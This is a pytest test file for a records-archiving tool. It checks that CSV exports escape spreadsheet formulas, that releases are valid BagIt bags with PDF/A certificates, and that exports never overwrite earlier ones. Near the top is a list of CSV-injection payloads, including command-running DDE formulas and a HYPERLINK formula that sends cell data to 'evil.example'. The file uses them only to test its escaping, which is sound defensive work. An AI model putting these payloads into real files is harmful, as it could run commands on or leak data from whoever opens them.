"""Releases and requests: what a clerk hands out is safe to open, never overwrites an earlier release,
is a BagIt 1.0 bag whose certificate is PDF/A and readable on paper, and whose PDFs show the captured
images themselves; mistyped case names and bad destinations are refused with one line."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import bagit
import pypdfium2
import pypdfium2.raw as pdfium_c
import pytest
from PIL import Image
from pypdf import PdfReader

from archiver.exports.cells import FORMULA_START, SafeCsvWriter
from conftest import Workspace
from connectors.facebook.fakepage import FakePage
from graph_helpers import graph_account

# The classic CSV-injection payloads (OWASP): each would run, or leak, when a spreadsheet opens the file.
PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click for more")', "+1+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


class PhotoPage(FakePage):
    """A Page whose first photo is a large camera picture (4000 by 3000 pixels), as residents post them."""

    big = b""

    def media_file(self, name: str) -> bytes | None:
        if name.startswith("fb-"):  # the post's photo (comments' are fbc-…)
            if not PhotoPage.big:
                out = io.BytesIO()
                Image.linear_gradient("L").resize((4000, 3000)).convert("RGB").save(out, "JPEG", quality=60)
                PhotoPage.big = out.getvalue()
            return PhotoPage.big
        return super().media_file(name)


@pytest.fixture
def release_workspace(workspace: Workspace) -> Iterator[tuple[Workspace, PhotoPage]]:
    now = datetime.now(UTC).replace(microsecond=0)
    page = PhotoPage()
    post = page.add_post(now - timedelta(days=1), "Photos of the new bike lane on Main Street", photo=True)
    for n, payload in enumerate(PAYLOADS):
        page.add_comment(post, now - timedelta(hours=20 - n), payload, (str(7000 + n), payload.strip() or "x"))
    with graph_account(workspace, page, account_id=page.page_id):
        assert workspace.cli("harvest").code == 0
        yield workspace, page


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


def test_every_csv_cell_is_inert_in_a_spreadsheet(release_workspace: tuple[Workspace, PhotoPage],
                                                  tmp_path: Path) -> None:
    workspace, _ = release_workspace
    assert workspace.cli("request", "new", "PRR-9").code == 0
    assert workspace.cli("request", "add", "PRR-9", "--account", "city-fb").code == 0
    out = tmp_path / "release"
    result = workspace.cli("export", "PRR-9", "--out", str(out), "--format", "csv,jsonl", "--redact")
    assert result.code == 0, result.err
    with (out / "data/csv/items.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    assert sum(c.startswith("'") and c[1:] in PAYLOADS for c in cells) >= 2 * (len(PAYLOADS) - 2)  # text, author
    # Listings piped to a file (tab-separated) follow the same rule, each cell on one line.
    listed = workspace.cli("search", "cmd").out.splitlines()
    assert len(listed) > 3 and not [c for line in listed for c in line.split("\t") if _dangerous(c)]
    assert all(line.count("\t") == listed[0].count("\t") for line in listed[:-1])
    # The redaction log and any other CSV go through the same writer.
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([PAYLOADS, [1, -2, None]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0] == ["'" + p for p in PAYLOADS] and rows[1] == ["1", "-2", ""]


def test_a_release_is_bagit_1_0_with_a_pdfa_certificate_and_the_captured_images(
        release_workspace: tuple[Workspace, PhotoPage], tmp_path: Path) -> None:
    workspace, _ = release_workspace
    assert workspace.cli("request", "new", "PRR-10").code == 0
    assert workspace.cli("request", "add", "PRR-10", "bike lane").code == 0
    out = tmp_path / "bag"
    result = workspace.cli("export", "PRR-10", "--out", str(out), "--format", "pdf")
    assert result.code == 0, result.err
    assert (out / "bagit.txt").read_text() == "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n"
    bag = bagit.Bag(str(out))
    bag.validate()
    assert bag.version_info == (1, 0)

    certificate = PdfReader(out / "data/certificate.pdf")
    metadata = certificate.trailer["/Root"]["/Metadata"].get_object().get_data()
    assert b'pdfaid:part="3"' in metadata or b"<pdfaid:part>3</pdfaid:part>" in metadata
    assert "/OutputIntents" in certificate.trailer["/Root"]
    hashes = _sizes_of_hex_runs(out / "data/certificate.pdf")
    assert hashes and min(hashes) >= 8.0

    # The post's PDF draws the photo from the WARC's bytes, scaled into the page.
    pdf = out / "data/pdf/DOC000001.pdf"
    embedded = {hashlib.sha256(img.data).hexdigest() for page in PdfReader(pdf).pages for img in page.images}
    assert embedded == {hashlib.sha256(PhotoPage.big).hexdigest()}  # the JPEG itself, byte for byte
    document = pypdfium2.PdfDocument(pdf)
    try:
        drawn = [(page.get_size(), obj.get_bounds()) for page in document
                 for obj in page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_IMAGE])]
    finally:
        document.close()
    [((width, height), (left, bottom, right, top))] = drawn
    assert 0 < left < right < width and 0 < bottom < top < height
    assert right - left > width / 2  # as wide as the text column allows, not a thumbnail
    assert "shown from the WARC" in (out / "data/text/DOC000001.txt").read_text()


def _sizes_of_hex_runs(path: Path) -> list[float]:
    """Font sizes (points) of the characters of every 64-hex-digit run in the PDF's text."""
    document = pypdfium2.PdfDocument(path)
    sizes: list[float] = []
    try:
        for page in document:
            text = page.get_textpage()
            chars = text.get_text_range()
            start = 0
            while (found := _next_hex(chars, start)) is not None:
                sizes += [pdfium_c.FPDFText_GetFontSize(text, i) for i in range(found, found + 64)]
                start = found + 64
    finally:
        document.close()
    return sizes


def _next_hex(text: str, start: int) -> int | None:
    run = 0
    for index in range(start, len(text)):
        run = run + 1 if text[index] in "0123456789abcdef" else 0
        if run == 64:
            return index - 63
    return None


def test_exports_never_overwrite_and_names_are_checked(release_workspace: tuple[Workspace, PhotoPage],
                                                       tmp_path: Path) -> None:
    workspace, _ = release_workspace
    for bad in ("PRR/11", "a" * 101, "CON", " PRR-11", "PRR:11", "-x"):
        refused = workspace.cli("request", "new", "--", bad)
        assert refused.code == 1 and refused.err.count("\n") == 1 and "case name" in refused.err, bad
    assert workspace.cli("request", "new", "PRR-11 (Main St.)").code == 0
    assert workspace.cli("request", "add", "PRR-11 (Main St.)", "bike").code == 0

    # A name that is no case is an error, not an export of a search for that word.
    missing = workspace.cli("export", "PRR-12", "--out", str(tmp_path / "m"))
    assert missing.code == 1 and "no case PRR-12; to export by search use" in missing.err
    assert not (tmp_path / "m").exists()

    # A search export refuses a folder that holds anything, and its manifest is never rewritten.
    jsonl = tmp_path / "jsonl"
    assert workspace.cli("export", "bike", "--format", "jsonl", "--out", str(jsonl)).code == 0
    manifest = _digest(jsonl / "export.json")
    for fmt in ("jsonl", "warc"):
        again = workspace.cli("export", "--format", fmt, "--out", str(jsonl))
        assert again.code == 1 and "is not an empty folder" in again.err
    assert _digest(jsonl / "export.json") == manifest

    # A zipped package is never replaced by a later one with the same --out.
    zipped = tmp_path / "prod"
    assert workspace.cli("export", "PRR-11 (Main St.)", "--out", str(zipped), "--zip", "--format", "csv").code == 0
    first = _digest(tmp_path / "prod.zip")
    again = workspace.cli("export", "PRR-11 (Main St.)", "--out", str(zipped), "--zip", "--format", "csv")
    assert again.code == 1 and "prod.zip already exists" in again.err
    assert _digest(tmp_path / "prod.zip") == first and not zipped.exists()
